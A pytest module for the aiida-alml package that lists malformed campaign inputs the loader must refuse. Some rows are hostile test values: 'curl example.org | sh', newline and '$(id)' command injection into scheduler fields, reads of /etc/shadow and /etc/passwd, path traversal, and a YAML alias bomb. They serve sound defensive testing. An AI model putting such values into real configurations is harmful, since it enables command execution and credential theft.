"""The catalogue of bad input: every row is refused by ``load_campaign`` (what ``aiida-alml launch`` runs first),
with a message that names the key, and nothing is stored.

Each row is a small edit of a valid campaign (the demo campaign, or the same with an FHI-aims labeller). To add one,
append a ``Bad(...)`` to the list of its area below and a line to the table in docs/reliability.md (the last test
checks that the two agree):

    Bad('label.ase.calculator', '{name: 5}', 'the name is not a string',
        setting('label.ase.calculator', {'name': 5}), r'calculator name must be a non-empty string'),

``key`` must occur in the message; ``match`` is a regular expression searched in it. Edits: :func:`setting`
(a dotted path, list indices as numbers), :func:`removing`, :func:`structure_file` (writes a file next to the
campaign and points a key at it), :func:`stored_set` (a stored node's PK instead: checks the workflow's own
validation, what Python users get), :func:`code_pk`, :func:`yaml_text` (edits the YAML text itself),
:func:`with_aims` (the FHI-aims labeller first) and :func:`both`.
"""

from __future__ import annotations

import copy
import dataclasses
import pathlib
import re
import shutil
from collections.abc import Callable

import pytest
import yaml
from aiida import orm

import aiida_alml
from aiida_alml.campaign import CampaignError, load_campaign

DEMO = pathlib.Path(aiida_alml.__file__).parent / 'protocols' / 'demo' / 'copper_vacancy.yaml'
DOCS = pathlib.Path(__file__).parents[2] / 'docs' / 'reliability.md'

AIMS_LABEL = {
    'labeller': 'aims',
    'aims': {
        'aims': {
            'code': 'aims-bad-input@localhost',
            'parameters': {'xc': 'pbe', 'relativistic': 'atomic_zora scalar', 'occupation_type': 'gaussian 0.01'},
            'species_dir': '/opt/fhi-aims/species_defaults/defaults_2020/light',
        },
        'kpoints_distance': 0.25,
    },
}

SHELL_LABEL = {
    'labeller': 'shell',
    'shell': {'code': 'ref-program@localhost', 'arguments': ['{geometry}'], 'output_filename': 'labels.xyz'},
}

# A structure file with one copper atom whose x coordinate is NaN, and one with two atoms 0.1 Å apart.
NAN_XYZ = '1\nLattice="3.6 0 0 0 3.6 0 0 0 3.6" pbc="T T T"\nCu nan 0.0 0.0\n'
OVERLAP_XYZ = '2\nLattice="3.6 0 0 0 3.6 0 0 0 3.6" pbc="T T T"\nCu 0.0 0.0 0.0\nCu 0.1 0.0 0.0\n'
CLUSTER_XYZ = '2\npbc="F F F"\nCu 0.0 0.0 0.0\nCu 2.5 0.0 0.0\n'
SILVER_XYZ = '1\nLattice="0 2.05 2.05 2.05 0 2.05 2.05 2.05 0" pbc="T T T"\nAg 0.0 0.0 0.0\n'

# A structure 1e300 Å from the origin; a cell 10^5 Å long; a test set whose energy is text; a labelled silver test set.
FAR_XYZ = '1\nLattice="3.6 0 0 0 3.6 0 0 0 3.6" pbc="T T T"\nCu 1e300 0.0 0.0\n'
HUGE_CELL_XYZ = '1\nLattice="100000.0 0 0 0 3.6 0 0 0 3.6" pbc="T T T"\nCu 0.0 0.0 0.0\n'
TEXT_ENERGY_XYZ = ('1\nLattice="3.6 0 0 0 3.6 0 0 0 3.6" Properties=species:S:1:pos:R:3:REF_forces:R:3 REF_energy=abc '
                   'pbc="T T T"\nCu 0.0 0.0 0.0 0.0 0.0 0.0\n')
SILVER_LABELLED_XYZ = ('1\nLattice="0 2.05 2.05 2.05 0 2.05 2.05 2.05 0" Properties=species:S:1:pos:R:3:REF_forces:R:3 '
                       'REF_energy=-0.1 pbc="T T T"\nAg 0.0 0.0 0.0 0.0 0.0 0.0\n')
# 3.8 KB of "billion laughs": nine lists of nine aliases of the list before, 9^9 values, in the calculator's kwargs.
LAUGHS = ('      kwargs:\n        l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n'
          + ''.join(f'        l{i}: &l{i} [' + ', '.join([f'*l{i - 1}'] * 9) + ']\n' for i in range(1, 9)))


# ---------------------------------------------------------------------- edits
Edit = Callable[[dict, pathlib.Path], 'dict | str']


def _steps(path: str) -> list:
    return [int(part) if part.isdigit() else part for part in path.split('.')]


def setting(path: str, value) -> Edit:
    """Set the value at a dotted path (``explore.conditions.0.device``), creating mappings on the way."""

    def edit(campaign, _):
        *parents, last = _steps(path)
        target = campaign
        for step in parents:
            target = target[step] if isinstance(step, int) else target.setdefault(step, {})
        target[last] = value
        return campaign

    return edit


def removing(path: str) -> Edit:
    def edit(campaign, _):
        *parents, last = _steps(path)
        target = campaign
        for step in parents:
            target = target[step]
        del target[last]
        return campaign

    return edit


def structure_file(key: str, text: str | bytes, name: str = 'bad.xyz') -> Edit:
    """Write ``text`` to ``name`` next to the campaign file and point ``key`` at it."""

    def edit(campaign, folder):
        path = folder / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return setting(key, name)(campaign, folder)

    return edit


def yaml_text(change: Callable[[str], str]) -> Edit:
    """Edit the YAML text of the (otherwise unchanged) campaign."""

    def edit(campaign, _):
        return change(yaml.safe_dump(campaign, sort_keys=False))

    return edit


def with_aims(*edits: Edit) -> Edit:
    """Label with FHI-aims (``AIMS_LABEL``) instead of EMT, then apply ``edits``."""
    return both(setting('label', copy.deepcopy(AIMS_LABEL)), *edits)


def with_shell(*edits: Edit) -> Edit:
    """Label with a declared reference program through aiida-shell (``SHELL_LABEL``), then apply ``edits``."""
    return both(setting('label', copy.deepcopy(SHELL_LABEL)), *edits)


def both(*edits: Edit) -> Edit:
    def edit(campaign, folder):
        for one in edits:
            campaign = one(campaign, folder)
        return campaign

    return edit


def stored_set(key: str, text: str) -> Edit:
    """Store the structures of an extxyz text as a ConfigurationSet and give ``key`` its PK: the file checks of the
    campaign loader are bypassed, so the row exercises the workflow's own validation (what Python users get)."""

    def edit(campaign, folder):
        from aiida_alml.atoms.configurations import read_extxyz
        from aiida_alml.data import ConfigurationSet

        path = folder / 'stored.xyz'
        path.write_text(text)
        return setting(key, ConfigurationSet(read_extxyz(path)).store().pk)(campaign, folder)

    return edit


def code_pk(label: str) -> Edit:
    """The PK of a code, found when the row runs (the catalogue is built before the codes exist)."""

    def edit(campaign, folder):
        return setting('initial_structures', orm.load_code(label).pk)(campaign, folder)

    return edit


@dataclasses.dataclass(frozen=True)
class Bad:
    key: str  #: the key the message must name
    given: str  #: what the row gives, as written in docs/reliability.md
    why: str  #: what is wrong with it, for the docs table
    edit: Edit
    match: str  #: regular expression searched in the message
    error: type = CampaignError

    @property
    def id(self) -> str:
        return f'{self.key}: {self.given}'


# ---------------------------------------------------------------------- the catalogue, by area
CAMPAIGN_KEYS = [
    Bad('selecton', 'selecton: {...}', 'misspelt key', setting('selecton', {'trust_lo': 0.1}),
        r'unknown key `selecton` \(did you mean selection\?\)'),
    Bad('max_iterations', 'the key twice', 'YAML keeps the last value of a duplicate key silently',
        yaml_text(lambda text: text + 'max_iterations: 3\n'), r'key `max_iterations` is given twice .*line \d+ and line \d+'),
    Bad('max_iterations', 'many', 'not a number', setting('max_iterations', 'many'),
        r"`max_iterations`: cannot use 'many' here \(expected Int\)"),
    Bad('max_iterations', 'true', 'a yes/no value where a whole number is expected', setting('max_iterations', True),
        r'`max_iterations`: True is a yes/no value, a whole number is expected'),
    Bad('max_iterations', '0', 'not positive', setting('max_iterations', 0), r'max_iterations: must be positive'),
    Bad('target_accurate_fraction', 'true', 'a yes/no value where a number is expected',
        setting('target_accurate_fraction', True), r'`target_accurate_fraction`: True is a yes/no value'),
    Bad('target_accurate_fraction', '1.5', 'a fraction above 1', setting('target_accurate_fraction', 1.5),
        r'target_accurate_fraction: must be in \(0, 1\]'),
    Bad('seed', '-1', 'negative seed', setting('seed', -1), r'seed: must be a non-negative integer'),
    Bad('max_labels', '3', 'the 16 initial labels alone spend the budget (it gave 17 labels)',
        setting('max_labels', 3), r'max_labels: 3 reference calculations in all, but the initial labelling alone makes 16'),
    Bad('max_labels', '20', 'leaves the loop 4 labels, fewer than labels_per_iteration (6)', setting('max_labels', 20),
        r'leaves 4 for the loop, fewer than selection.labels_per_iteration \(6\); raise max_labels to at least 22'),
    Bad('selection', 'trust_lo > trust_hi', 'empty trust window', setting('selection.trust_lo', 0.9),
        r'selection: trust_lo \(0.9\) must be smaller than trust_hi \(0.6\)'),
    Bad('selection', 'labels_per_iteration: true', 'a yes/no value taken as 1',
        setting('selection.labels_per_iteration', True), r'labels_per_iteration must be a positive integer, got True'),
    Bad('selection', 'trust_lo: true', 'a yes/no value taken as 1 eV/Å', setting('selection.trust_lo', True),
        r'trust_lo must be a positive number \(eV/Å\), got True'),
    Bad('selection', 'min_distance: far', 'not a number', setting('selection.min_distance', 'far'),
        r"selection: min_distance must be a number, got 'far'"),
    Bad('selection', 'descriptor_bins: many', 'not a whole number', setting('selection.descriptor_bins', 'many'),
        r"selection: descriptor_bins must be a whole number, got 'many'"),
    Bad('selection', 'mode: best', 'unknown mode', setting('selection.mode', 'best'), r'selection: mode must be one of'),
    Bad('selection', 'contact_fraction: 1.5', 'a contact threshold above the training data\'s closest distance',
        setting('selection.contact_fraction', 1.5), r'selection: contact_fraction must be a number in \(0, 1\], got 1.5'),
    Bad('selection', 'trust_low: 0.1', 'misspelt key', setting('selection.trust_low', 0.1),
        r'selection: unknown keys trust_low \(did you mean trust_lo'),
    Bad('initial_perturbation', 'max_strain: 5.0', 'strains that invert cells (negative volume)',
        setting('initial_perturbation.max_strain', 5.0), r'initial_perturbation: max_strain must be below 1/3'),
    Bad('initial_perturbation', 'count: true', 'a yes/no value taken as 1', setting('initial_perturbation.count', True),
        r'initial_perturbation: count must be a positive integer, got True'),
    Bad('initial_perturbation', 'rattle_std: big', 'not a number', setting('initial_perturbation.rattle_std', 'big'),
        r"initial_perturbation: rattle_std must be a non-negative number, got 'big'"),
    Bad('initial_perturbation', 'rattle_std: 1.5', 'rattles atoms onto each other',
        setting('initial_perturbation.rattle_std', 1.5),
        r'initial_perturbation: perturbed copy \d+ \(of initial structure \d+\) has atoms \d+ and \d+ 0\.\d+ Å apart'),
    Bad('validation', 'ensembles: [npt_berendsen]', 'validation runs at constant volume',
        setting('validation.ensembles', ['npt_berendsen']), r'validation: ensembles must be a list of'),
    Bad('validation', 'steps: 0', 'no steps', setting('validation.steps', 0),
        r'validation: steps must be a positive whole number'),
    Bad('train.num_members', '1', 'one member has no spread', setting('train.num_members', 1),
        r'train.num_members: a committee needs at least two members'),
    Bad('label.labeller', 'vasp', 'unknown labeller', setting('label.labeller', 'vasp'),
        r"label.labeller: 'vasp' is not one of"),
    Bad('label.max_failed_fraction', '1.0', 'every label may fail', setting('label.max_failed_fraction', 1.0),
        r'label.max_failed_fraction: must be in \[0, 1\)'),
]

STRUCTURES = [
    Bad('initial_structures', 'a missing file', 'no such file', setting('initial_structures', 'nothere.xyz'),
        r'`initial_structures`: structure file .*nothere.xyz does not exist'),
    Bad('initial_structures', 'an empty file', 'nothing to read', structure_file('initial_structures', ''),
        r'`initial_structures`: ASE cannot read structures from .*bad.xyz'),
    Bad('initial_structures', 'a YAML file named .xyz', 'not xyz', structure_file('initial_structures', 'a: 1\n'),
        r'`initial_structures`: ASE cannot read structures from .*bad.xyz \(XYZError'),
    Bad('exploration_structures', 'a binary file', 'not text', structure_file('exploration_structures', bytes(range(256))),
        r'`exploration_structures`: ASE cannot read structures'),
    Bad('exploration_structures', 'a file of unknown format', 'ASE does not know the format',
        structure_file('exploration_structures', 'a: 1\n', 'start.yaml'), r'`exploration_structures`: ASE cannot read'),
    Bad('initial_structures', 'NaN position', 'not a finite number', structure_file('initial_structures', NAN_XYZ),
        r'`initial_structures`: .*bad.xyz: configuration 0: positions contains NaN or inf'),
    Bad('exploration_structures', 'atoms 0.1 Å apart', 'overlapping atoms (EMT gives NaN forces)',
        structure_file('exploration_structures', OVERLAP_XYZ),
        r'`exploration_structures`: .*bad.xyz: structure 0 has atoms 0 and 1 0.100 Å apart \(closer than 0.5 Å\)'),
    Bad('exploration_structures', 'PK of a set with atoms 0.1 Å apart', 'overlapping atoms, given as a node',
        stored_set('exploration_structures', OVERLAP_XYZ),
        r'exploration_structures: structure 0 has atoms 0 and 1 0.100 Å apart \(closer than 0.5 Å\)'),
    Bad('initial_structures', '../outside.xyz', 'a file outside the campaign file\'s folder',
        setting('initial_structures', '../outside.xyz'), r"`initial_structures`: '../outside.xyz' is outside the "
                                                          r"campaign file's folder"),
    Bad('test_set', '/etc/hostname', 'an absolute path to any file the launching user can read',
        setting('test_set', '/etc/hostname'), r"`test_set`: '/etc/hostname' is outside the campaign file's folder"),
    Bad('initial_structures', '3.5', 'neither a file name nor a PK', setting('initial_structures', 3.5),
        r'`initial_structures`: give a structure file name or a node PK/UUID, got 3.5'),
    Bad('initial_structures', 'the PK of a code', 'not a ConfigurationSet', code_pk('alml-md@localhost'),
        r'`initial_structures`: node \d+ is a InstalledCode, not a ConfigurationSet'),
    Bad('test_set', 'unlabelled structures', 'nothing to score against', setting('test_set', 'copper_vacancy.xyz'),
        r'test_set: needs energy and forces labels'),
    Bad('exploration_structures', 'an element never labelled', 'silver in a copper campaign',
        structure_file('exploration_structures', SILVER_XYZ),
        r"label: the labeller \(EMT\) cannot label elements \['Ag'\]|exploration_structures: elements \['Ag'\]"),
]

CODES = [
    Bad('label.ase.code', 'no-such-code@localhost', 'no such code', setting('label.ase.code', 'no-such-code@localhost'),
        r'`label.ase.code`: '),
    Bad('label.ase.code', 'alml-md@localhost', 'a code of another plugin', setting('label.ase.code', 'alml-md@localhost'),
        r"label.ase.code: is a code for 'alml.md'"),
    Bad('train.train.code', 'alml-label@localhost', 'a code of another plugin',
        setting('train.train.code', 'alml-label@localhost'), r"train.train.code: is a code for 'alml.ase'"),
    Bad('explore.md.code', 'mace-train@localhost', 'a code of another plugin',
        setting('explore.md.code', 'mace-train@localhost'), r"explore.md.code: is a code for 'alml.mace.train'"),
]

REFERENCE_CALCULATORS = [
    Bad('label.ase.calculator', '{name: 5}', 'the name is not a string', setting('label.ase.calculator', {'name': 5}),
        r'label.ase.calculator: calculator name must be a non-empty string'),
    Bad('label.ase.calculator', '{name: emtt}', 'misspelt calculator', setting('label.ase.calculator', {'name': 'emtt'}),
        r"label.ase.calculator: unknown calculator 'emtt'"),
    Bad('label.ase.calculator', '{name: .emt:EMT}', 'an import path', setting('label.ase.calculator', {'name': '.emt:EMT'}),
        r'label.ase.calculator: .*import paths are not accepted'),
    Bad('label.ase.calculator', '{name: ase.calculators.gulp:GULP, kwargs: {command: ...}}',
        'an import path to a calculator that runs a command',
        setting('label.ase.calculator', {'name': 'ase.calculators.gulp:GULP', 'kwargs': {'command': 'touch /tmp/x'}}),
        r'label.ase.calculator: .*import paths are not accepted'),
    Bad('label.ase.calculator', '{name: alml_test.runs_a_program}', 'a registered calculator that runs a program',
        setting('label.ase.calculator', {'name': 'alml_test.runs_a_program'}),
        r'label.ase.calculator: .*runs an external program: configure that program as an AiiDA code'),
    Bad('label.ase.calculator', '{name: emt, kwargs: [1]}', 'kwargs not a mapping',
        setting('label.ase.calculator', {'name': 'emt', 'kwargs': [1]}),
        r'label.ase.calculator: calculator kwargs must be a dictionary'),
    Bad('label.ase.calculator', '{name: emt, cutoff: 5}', 'unknown key beside name and kwargs',
        setting('label.ase.calculator', {'name': 'emt', 'cutoff': 5}),
        r"label.ase.calculator: calculator has unknown keys \['cutoff'\]"),
    Bad('label.ase.properties', '[energy, force]', 'misspelt property', setting('label.ase.properties', ['energy', 'force']),
        r"label.ase.properties: properties \['force'\] are not supported"),
    Bad('label.ase.properties', 'stress of a cluster', 'stress needs a periodic cell',
        both(setting('label.ase.properties', ['energy', 'forces', 'stress']),
             structure_file('initial_structures', CLUSTER_XYZ)),
        r'label.ase.properties: stress is asked for but initial_structures \[0\] are not periodic'),
]

JOB_OPTIONS = [
    Bad('label.ase.options.max_wallclock_seconds', 'soon', 'not a number of seconds',
        setting('label.ase.options', {'max_wallclock_seconds': 'soon'}),
        r"label.ase.options.max_wallclock_seconds: value 'max_wallclock_seconds' is not of the right type"),
    Bad('label.ase.options.prepend_text', 'a shell command', 'runs a command (belongs on the code)',
        setting('label.ase.options', {'prepend_text': 'curl example.org | sh'}),
        r'`label.ase.options.prepend_text` may not be set in a campaign file'),
    Bad('train.train.metadata.options.custom_scheduler_commands', "'#SBATCH --gres=gpu:1'", 'scheduler text (use gpus)',
        setting('train.train.metadata.options.custom_scheduler_commands', '#SBATCH --gres=gpu:1'),
        r'`train.train.metadata.options.custom_scheduler_commands` may not be set .* use `gpus: N`'),
    Bad('explore.md.metadata.options.environment_variables.PYTHONPATH', '/tmp/mine', 'makes Python load code',
        setting('explore.md.metadata.options.environment_variables', {'PYTHONPATH': '/tmp/mine'}),
        r'`explore.md.metadata.options.environment_variables.PYTHONPATH` may not be set'),
    Bad('explore.md.metadata.options.gpus', '0', 'not a positive number of GPUs',
        setting('explore.md.metadata.options.gpus', 0), r'`explore.md.metadata.options.gpus`: 0 is not a positive'),
    Bad('train.train.metadata.store_provenance', 'false', 'would change what is recorded',
        setting('train.train.metadata.store_provenance', False),
        r'`train.train.metadata.store_provenance`: a campaign file may set only'),
    Bad('train.train.metadata.options.withmpi', "'yes'", 'not true/false',
        setting('train.train.metadata.options.withmpi', 'yes'),
        r"`train.train.metadata.options.withmpi`: value 'withmpi' is not of the right type"),
]

SCHEDULES_AND_MD = [
    Bad('explore_schedule', '[{temperature: -5}]', 'negative temperature', setting('explore_schedule', [{'temperature': -5}]),
        r'explore_schedule\[0\] \(laid over explore.conditions\[0\]\): temperature must be positive, got -5'),
    Bad('explore_schedule', '[..., {temperatur: 600}]', 'misspelt key in a later entry',
        setting('explore_schedule', [{'temperature': 300}, {'temperatur': 600}]),
        r'explore_schedule\[1\].*unknown MD parameters: temperatur \(did you mean temperature'),
    Bad('explore_schedule', '[300]', 'an entry that is not a mapping', setting('explore_schedule', [300]),
        r'explore_schedule\[0\]: every entry must be a non-empty mapping'),
    Bad('explore_schedule', '[]', 'empty schedule', setting('explore_schedule', []), r'explore_schedule: empty'),
    Bad('explore_schedule', '[{ensemble: npt_berendsen}]', 'NPT without a pressure',
        setting('explore_schedule', [{'ensemble': 'npt_berendsen'}]), r'explore_schedule\[0\].*pressure must be given'),
    Bad('explore.conditions', 'device: gpu', 'not a torch device', setting('explore.conditions.0.device', 'gpu'),
        r"explore.conditions\[0\]: device must be 'cpu', 'cuda', 'cuda:N'"),
    Bad('explore.conditions', 'steps: true', 'a yes/no value taken as 1 step', setting('explore.conditions.0.steps', True),
        r'explore.conditions\[0\]: steps must be a whole number, got True'),
    Bad('explore.conditions', 'temperature: hot', 'not a number', setting('explore.conditions.1.temperature', 'hot'),
        r"explore.conditions\[1\]: temperature must be a number, got 'hot'"),
    Bad('explore.conditions', 'uncertainty_bias: 500', 'a bias that alone would drive the MD',
        setting('explore.conditions.0.uncertainty_bias', 500), r'explore.conditions\[0\]: uncertainty_bias must be at most 100'),
    Bad('explore.conditions', 'uncertainty_bias_cap without uncertainty_bias', 'a cap of no bias',
        setting('explore.conditions.0.uncertainty_bias_cap', 0.3),
        r'explore.conditions\[0\]: uncertainty_bias_cap is given but uncertainty_bias is not'),
]

MACE_OPTIONS = [
    Bad('train.train.parameters', 'max_L: -1', 'negative angular momentum', setting('train.train.parameters.max_L', -1),
        r'train.train.parameters: invalid `parameters` for mace_run_train:\s+`max_L`: must be >= 0, got -1'),
    Bad('train.train.parameters', 'r_max: 0', 'zero cutoff radius', setting('train.train.parameters.r_max', 0),
        r'`r_max`: must be > 0'),
    Bad('train.train.parameters', 'num_channels: 0', 'no channels', setting('train.train.parameters.num_channels', 0),
        r'`num_channels`: must be >= 1'),
    Bad('train.train.parameters', 'valid_fraction: 1.5', 'more than the whole set',
        setting('train.train.parameters.valid_fraction', 1.5), r'`valid_fraction`: must be < 1'),
    Bad('train.train.parameters', 'lr: .nan', 'not a finite number', setting('train.train.parameters.lr', float('nan')),
        r'`lr`: nan is not a finite number'),
    Bad('train.train.parameters', 'max_num_epochs: true', 'a yes/no value',
        setting('train.train.parameters.max_num_epochs', True), r'`max_num_epochs`: mace_run_train cannot read True'),
    Bad('train.train.parameters', 'num_channel: 16', 'misspelt option', setting('train.train.parameters.num_channel', 16),
        r'`num_channel` is not an option of mace_run_train \(did you mean num_channels'),
    Bad('train.train.parameters', 'seed: 3', 'set by the calculation (the seed input)',
        setting('train.train.parameters.seed', 3), r'`seed` is set by the calculation itself'),
    Bad('train.train.parameters', 'device: gpu', 'not a MACE device', setting('train.train.parameters.device', 'gpu'),
        r"`device` must be one of \['cpu', 'cuda'"),
    Bad('train.train.e0s', '{Cu: -0.01, Ag: -0.02}', 'an E0 for an element the campaign never has',
        setting('train.train.e0s', {'Cu': -0.01, 'Ag': -0.02}),
        r"train.train.e0s: energies for \['Ag'\], elements absent from the training data"),
    Bad('train.train.e0s', 'median', 'not "average" nor a mapping', setting('train.train.e0s', 'median'),
        r'train.train.e0s: a string must be "average"'),
    Bad('warm_start_parameters', 'max_num_epochs: 0', 'no epochs', setting('warm_start_parameters', {'max_num_epochs': 0}),
        r'warm_start_parameters: .*`max_num_epochs`: must be >= 1'),
    Bad('train.train.parameters', 'model: BOTNet', 'a model the model format cannot hold',
        setting('train.train.parameters.model', 'BOTNet'),
        r"train.train.parameters: .*`model` 'BOTNet' cannot be trained here: the model file format"),
    Bad('train.train.parameters', 'distributed: true', 'multi-process training',
        setting('train.train.parameters.distributed', True), r'`distributed` may not be set: multi-process training'),
    Bad('train.train.parameters', 'statistics_file: /etc/shadow', 'reads a file on the compute node',
        setting('train.train.parameters.statistics_file', '/etc/shadow'),
        r'`statistics_file` may not be set: reads a file on the compute node'),
    Bad('train.train.parameters', 'pt_train_file: mp', 'downloads pretraining data',
        setting('train.train.parameters.pt_train_file', 'mp'), r'`pt_train_file` may not be set: reads \(or, given `mp`, downloads\)'),
    Bad('train.train.parameters', "heads: {extra: {train_file: /etc/passwd}}", 'file paths read on the compute node',
        setting('train.train.parameters.heads', {'extra': {'train_file': '/etc/passwd'}}),
        r'`heads` may not be set: defines heads with their own train_file'),
    Bad('train.train.parameters', 'les_arguments: les.yaml', 'reads a YAML file on the compute node',
        setting('train.train.parameters.les_arguments', 'les.yaml'), r'`les_arguments` may not be set: reads a YAML file'),
    Bad('train.train.parameters', 'config: options.yaml', 'options from a file, not recorded',
        setting('train.train.parameters.config', 'options.yaml'), r'`config` may not be set: reads options from a YAML file'),
    Bad('train.train.parameters', 'wandb: true', 'sends data over the network',
        setting('train.train.parameters.wandb', True), r'`wandb` may not be set: Weights & Biases'),
    Bad('train.train.parameters', "foundation_model_kwargs: {model: x}", "configures a download of MACE's models",
        setting('train.train.parameters.foundation_model_kwargs', {'model': 'x'}), r'`foundation_model_kwargs` may not be set'),
    Bad('train.train.parameters', 'config_type_weights: {Default: 1.0}', 'the training files carry no config_type',
        setting('train.train.parameters.config_type_weights', {'Default': 1.0}),
        r'`config_type_weights` may not be set: the training files carry no config_type'),
    Bad('train.train.parameters', 'dry_run: true', 'no model would be written',
        setting('train.train.parameters.dry_run', True), r'`dry_run` may not be set: MACE would stop before training'),
    Bad('train.train.parameters', 'swa: true, stage_two: true', 'one option given twice (two spellings)',
        both(setting('train.train.parameters.swa', True), setting('train.train.parameters.stage_two', True)),
        r'`stage_two` and `swa` are the same option of mace_run_train: give one'),
    Bad('train.train.parameters', 'foundation: x', 'an abbreviation, not an option',
        setting('train.train.parameters.foundation', 'x'),
        r'`foundation` is not an option of mace_run_train \(did you mean foundation_'),
    Bad('train.train.parameters', 'max_num_epochs: 1000000000', 'above the bound (100000)',
        setting('train.train.parameters.max_num_epochs', 10**9), r'`max_num_epochs`: must be <= 100000, got 1000000000'),
    Bad('train.train.parameters', 'num_channels: 4096', 'above the bound (1024)',
        setting('train.train.parameters.num_channels', 4096), r'`num_channels`: must be <= 1024, got 4096'),
    Bad('train.train.parameters', 'r_max: 50', 'above the bound (20 Å)',
        setting('train.train.parameters.r_max', 50), r'`r_max`: must be <= 20.0, got 50'),
    Bad('train.train.parameters', 'correlation: 10', 'above the bound (5)',
        setting('train.train.parameters.correlation', 10), r'`correlation`: must be <= 5, got 10'),
    Bad('train.num_members', '100000', 'above the bound (64)', setting('train.num_members', 100000),
        r'train.num_members: at most 64 members \(each one is a training job\), got 100000'),
    Bad('warm_start_parameters', 'statistics_file: /etc/shadow', 'reads a file on the compute node',
        setting('warm_start_parameters', {'statistics_file': '/etc/shadow'}),
        r'warm_start_parameters: .*`statistics_file` may not be set'),
]

FHI_AIMS = [
    Bad('label.aims.aims.parameters', "xcc: pbe", 'misspelt keyword would reach control.in',
        with_aims(setting('label.aims.aims.parameters.xcc', 'pbe')),
        r"label.aims.aims.parameters\['xcc'\] is not a documented FHI-aims control.in keyword \(did you mean xc"),
    Bad('label.aims.aims.parameters', 'relax_geometry: bfgs 1e-2', 'moves the atoms: another geometry is labelled',
        with_aims(setting('label.aims.aims.parameters.relax_geometry', 'bfgs 1e-2')),
        r'label.aims.aims.parameters: relax_geometry would make FHI-aims move the atoms'),
    Bad('label.aims.aims.parameters', 'sc_iter_limit: 0', 'no SCF iteration',
        with_aims(setting('label.aims.aims.parameters.sc_iter_limit', 0)),
        r"label.aims.aims.parameters\['sc_iter_limit'\] must be a positive integer"),
    Bad('label.aims.aims.parameters', 'xc: "pbe\\nspecies Cu"', 'a newline would inject a keyword',
        with_aims(setting('label.aims.aims.parameters.xc', 'pbe\nspecies Cu')),
        r"label.aims.aims.parameters\['xc'\]: value .* contains a newline"),
    Bad('label.aims.aims.parameters', 'spin: noncollinear', 'not supported',
        with_aims(setting('label.aims.aims.parameters.spin', 'noncollinear')),
        r"label.aims.aims.parameters\[spin\] must be 'none' or 'collinear'"),
    Bad('label.aims.aims.parameters', 'species: ...', 'species come from the species defaults',
        with_aims(setting('label.aims.aims.parameters.species', 'Cu')),
        r"label.aims.aims.parameters\['species'\] may not be set"),
    Bad('label.aims.kpoints_distance', 'with parameters k_grid', 'two k-point meshes',
        with_aims(setting('label.aims.aims.parameters.k_grid', [4, 4, 4])),
        r'label.aims.kpoints_distance, aims.aims.parameters\[k_grid\]: give one'),
    Bad('label.aims.aims.species_dir', 'a relative path', 'must be absolute on the remote computer',
        with_aims(setting('label.aims.aims.species_dir', 'species/light')),
        r"label.aims.aims.species_dir: 'species/light' must be an absolute path"),
    Bad('label.aims.aims.species', 'neither species nor species_dir', 'no species defaults',
        with_aims(removing('label.aims.aims.species_dir')),
        r'label.aims.aims.species, aims.aims.species_dir: give exactly one'),
    Bad('label.aims.kpoints_distance', 'true', 'a yes/no value where 1/Å is expected',
        with_aims(setting('label.aims.kpoints_distance', True)), r'`label.aims.kpoints_distance`: True is a yes/no value'),
]

SCHEDULER_SCRIPTS = [
    Bad('label.ase.options.queue_name', '"debug\\ntouch /tmp/x"', 'a newline puts a command on its own line of the '
        'SLURM script', setting('label.ase.options', {'queue_name': 'debug\ntouch /tmp/x'}),
        r'`label.ase.options.queue_name`: .* is not a plain scheduler name'),
    Bad('train.train.metadata.options.account', '"proj; id"', 'ends the shell word',
        setting('train.train.metadata.options.account', 'proj; id'), r'is not a plain scheduler name'),
    Bad('explore.md.metadata.options.qos', '"$(id)"', 'command substitution',
        setting('explore.md.metadata.options.qos', '$(id)'), r'is not a plain scheduler name'),
    Bad('label.ase.options.priority', '"1\\nid"', 'not a whole number', setting('label.ase.options', {'priority': '1\nid'}),
        r'`label.ase.options.priority`: .* is not a whole number'),
    Bad('explore.md.metadata.options.gpus', '1000000', 'more GPUs than any machine has',
        setting('explore.md.metadata.options.gpus', 1000000), r'1000000 GPUs for one job; at most 64'),
    Bad('train.train.metadata.options.resources.num_machines', '-1', 'a negative number of machines',
        setting('train.train.metadata.options.resources', {'num_machines': -1}), r'-1 is outside 1 to'),
    Bad('label.ase.options.resources', '{num_machines: 1, gpus_per_node: 2}', 'a key the scheduler does not take',
        setting('label.ase.options', {'resources': {'num_machines': 1, 'gpus_per_node': 2}}),
        r'label.ase.options.resources: .* do not fit the core.direct scheduler of localhost'),
    Bad('train.train.metadata.options.resources', '{num_machines: 1, gpus_per_node: 2}', 'a key the scheduler does '
        'not take (failed when the first training job was created)',
        setting('train.train.metadata.options.resources', {'num_machines': 1, 'gpus_per_node': 2}),
        r'train.train.metadata.options.resources: .* do not fit the core.direct scheduler of localhost'),
    Bad('explore.md.metadata.options.resources', '{num_machines: 1, gpus_per_node: 2}', 'a key the scheduler does '
        'not take (failed when the first MD job was created)',
        setting('explore.md.metadata.options.resources', {'num_machines': 1, 'gpus_per_node': 2}),
        r'explore.md.metadata.options.resources: .* do not fit the core.direct scheduler'),
    Bad('label.ase.options.max_wallclock_seconds', '-5', 'a negative walltime',
        setting('label.ase.options', {'max_wallclock_seconds': -5}), r'-5 is outside 1 to'),
]

SHELL_LABELLER = [
    Bad('label.shell.geometry_filename', '../../../../tmp/x', 'writes the geometry outside the job folder',
        with_shell(setting('label.shell.geometry_filename', '../../../../tmp/x')), r'is not a plain file name'),
    Bad('label.shell.output_filename', '../../../../etc/hostname', 'would store a file of the daemon\'s machine',
        with_shell(setting('label.shell.output_filename', '../../../../etc/hostname')), r'is not a plain file name'),
    Bad('label.shell.code', 'mace-train@localhost', 'our own training program with free arguments',
        with_shell(setting('label.shell.code', 'mace-train@localhost')), r"is a code for 'alml.mace.train', not a "
                                                                        r'reference program'),
    Bad('label.shell.code', 'a code not declared a reference program', 'only codes their owner declared run',
        with_shell(setting('label.shell.code', 'undeclared-program@localhost')),
        r'is not declared a reference program: .*aiida-alml allow-labeller'),
    Bad('label.shell.arguments', "[1, '{geometry}']", 'a number where a word is expected',
        with_shell(setting('label.shell.arguments', [1, '{geometry}'])), r'label.shell.arguments\[0\]: 1 is not a string'),
    Bad('label.shell.arguments', "['{geometry}', '{model}']", 'an unknown placeholder',
        with_shell(setting('label.shell.arguments', ['{geometry}', '{model}'])), r'unknown placeholder \{model\}'),
    Bad('label.shell.geometry_format', 'xyzz', 'not a format ASE writes',
